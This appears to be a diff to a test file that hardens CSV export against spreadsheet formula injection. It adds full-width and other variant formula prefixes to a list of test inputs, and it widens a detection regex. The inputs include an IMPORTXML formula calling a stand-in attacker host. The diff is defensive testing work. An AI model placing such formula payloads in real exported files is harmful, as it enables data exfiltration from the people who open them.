@@ -26,13 +26,17 @@ const formulas = [
   '=1+1;,"',
   '\u00a0=1+1',
   '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
   '−1+1',
+  '\tcmd',
   '=IMPORTXML("http://evil.example","//a")',
   '@=1',
   '%0A=1',
   '|=1',
 ]
-const runs = /^\s*[=+\-@\t\r]/
+const runs = /^\s*[=+\-@\t\r\n＝＋－＠]/
 
 plainTest('no text is a formula once it is in a CSV file, whatever cuts the line', () => {
   const separators = [',', ';', '\t'] as const
